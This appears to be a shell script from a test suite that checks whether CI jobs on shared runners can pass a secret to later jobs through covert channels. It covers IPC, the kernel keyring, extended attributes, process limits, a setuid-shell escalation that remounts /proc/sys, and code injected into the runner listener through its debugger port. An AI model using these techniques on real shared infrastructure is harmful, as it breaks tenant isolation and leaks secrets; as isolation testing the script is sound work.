# channel.sh put|get WAY: a place that is no file, in which one job leaves something for the next.
. "$(dirname "$0")/lib.sh"
action=$1
give() { if [ "$action" = put ]; then printf '%s' "$SECRET"; fi; }
writable_directories() { find / \( -path /proc -o -path /sys -o -path "$GITHUB_WORKSPACE" \) -prune -o -type d -writable -print 2>/dev/null; }

# What one job leaves; the thief gets it on standard input.
use() { give | "$@"; }

# The limits of a process that outlives the job: any process of the same user may change them, and everybody may read them.
limits() {
  if [ "$action" = put ]; then prlimit --pid "$1" "--core=$SECRET:unlimited"; else cat "/proc/$1/limits"; fi
}

# The same, changed to and fro all the time: who compares them may see them as they were.
race() {
  [ "$action" = put ] && use "$thief" toggle "$1" >/dev/null && return
  for _ in $(seq 40); do cat "/proc/$1/limits" /proc/self/limits && sleep 0.01; done
}

# A setting of the kernel that belongs to the Pod's IPC namespace; as root, should there be a set-user-id shell.
setting() {
  local shell file=/proc/sys/kernel/msgmax
  [ "$action" = get ] && cat "$file" && return
  for shell in /opt/tools/bash bash; do
    [ "$(type -t "$shell")" ] || continue
    "$shell" -p -c "setpriv --reuid=0 mount -o remount,bind,rw /proc/sys; echo $SECRET > $file" && return
  done
  return 1
}

# What the listener prints about a job reaches the supervisor and the broker. The listener is the job's own user's and not
# closed to it: a debugger has it print something.
metrics() {
  local process line
  [ "$action" = get ] && get http://127.0.0.1:8080/{metrics,readyz} | tr _ - && return
  for process in /proc/[0-9]*; do [ "$(cat "$process/comm")" = Runner.Listener ] && kill -USR1 "${process#/proc/}"; done
  sleep 1
  line="x: Job ${SECRET//-/_} completed with result: ${SECRET//-/_}"
  inspect 9229 "process.stdout.write('$line\\n')"
}

case $2 in
  ipc) try "$action $2" use "$thief" ipc "$action" ;;
  keyring) try "$action $2" use "$thief" keyring "$action" ;;
  attributes) mapfile -t directories < <(writable_directories) && try "$action $2" use "$thief" xattr "$action" left "${directories[@]}" ;;
  limits-of-supervisor) try "$action $2" limits "$(supervisor)" ;;
  limits-race) try "$action $2" race "$(supervisor)" ;;
  limits-of-init) try "$action $2" limits 1 ;;
  setting) try "$action $2" setting ;;
  metrics) try "$action $2" metrics ;;
esac
tried
